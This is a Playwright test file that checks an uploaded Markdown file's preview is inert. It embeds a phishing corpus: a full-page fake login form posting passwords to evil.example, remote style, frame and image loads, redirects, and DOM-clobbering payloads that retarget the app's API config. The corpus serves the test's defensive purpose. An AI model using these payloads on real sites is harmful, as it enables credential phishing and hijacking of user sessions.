// An uploaded .md file's preview goes through the same strict renderer as a paste: the XSS corpus
// plus a phishing corpus (a fake login form over the page, styles, remote resources, DOM clobbering
// of the runtime config) runs nothing, loads nothing from another host and leaves no form, input
// or style element behind.
import { BASE_URL } from '../support/env';
import { expect as baseExpect, test } from '../support/fixtures';
import { uploadViaApi } from '../support/files';
import { expectInert, watchForScript } from '../support/inert';
import { XSS_CORPUS } from '../support/pastes';

const expect = baseExpect.configure({ timeout: 15_000 });

const PHISHING_CORPUS = [
  '<div style="position:fixed;inset:0;z-index:2147483647;background:#fff" id="phish-overlay">',
  '<form action="https://evil.example/steal" method="post"><h2>Session expired</h2>',
  '<input name="password" type="password" placeholder="Password"><input type="submit" value="Log in">',
  '<button formaction="https://evil.example/steal2">Sign in</button><select name="s"><option>a</option></select>',
  '<textarea name="t">t</textarea></form></div>',
  '',
  '<link rel="stylesheet" href="https://evil.example/x.css">',
  '<style>@import url("https://evil.example/import.css"); body { display: none }</style>',
  '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
  '<base href="https://evil.example/">',
  '<iframe src="https://evil.example/frame"></iframe>',
  '<object data="https://evil.example/obj"></object>',
  '<embed src="https://evil.example/embed">',
  '<div style="background:url(https://evil.example/bg.png)">bg</div>',
  '<svg><style>* { position: fixed }</style><use href="https://evil.example/u.svg#a"></use></svg>',
  '',
  '<div id="__CLIPNEST_CONFIG__"></div><a id="__CLIPNEST_CONFIG__" name="apiBaseUrl" href="https://evil.example/">clobber</a>',
  '<form id="root" name="cookie"><input name="apiBaseUrl" value="https://evil.example"></form>',
  '',
].join('\n');

/** XSS corpus first (its heading and "The end." are what expectInert looks for), phishing in between. */
const CORPUS = XSS_CORPUS.replace('The end.', `${PHISHING_CORPUS}\nThe end.`);

test.describe('uploaded Markdown preview is inert', () => {
  test.describe.configure({ timeout: 90_000 });

  test('an uploaded .md with the XSS and phishing corpus can do no more than a paste', async ({ page, token }) => {
    const seen = watchForScript(page);
    const foreign: string[] = [];
    const origin = new URL(BASE_URL).host;
    await page.route(
      (url) => url.host !== origin && url.protocol !== 'data:' && url.protocol !== 'blob:',
      (route) => {
        foreign.push(route.request().url());
        return route.abort();
      },
    );
    const file = await uploadViaApi(token, 'evil.md', CORPUS, 'text/markdown');
    await page.goto(`/file/${file.slug}`);
    await expect(page.getByTestId('markdown-preview')).toBeVisible();
    await expectInert(page, seen);

    const preview = page.getByTestId('markdown-preview');
    await expect(
      preview.locator('form, input:not([type="checkbox"]), style, select, textarea, link, meta, base'),
    ).toHaveCount(0);
    await expect(preview.locator('[style*="position"], [style*="url("]')).toHaveCount(0);
    await expect(preview.getByText('Session expired')).toBeVisible(); // text stays, as text
    // No element of the content carries an unprefixed id or name.
    const unprefixed = await page
      .getByTestId('markdown-body')
      .evaluate((root) =>
        [...root.querySelectorAll('[id], [name]')]
          .flatMap((el) => [el.getAttribute('id'), el.getAttribute('name')])
          .filter((v): v is string => v !== null && !v.startsWith('user-content-')),
      );
    expect(unprefixed).toEqual([]);
    // The runtime-config global is not shadowed by content (named access would make it an element).
    expect(await page.evaluate(() => typeof (window as unknown as Record<string, unknown>).__CLIPNEST_CONFIG__)).toBe(
      'undefined',
    );
    expect(foreign).toEqual([]);
    expect(seen.dialogs).toEqual([]);
  });
});
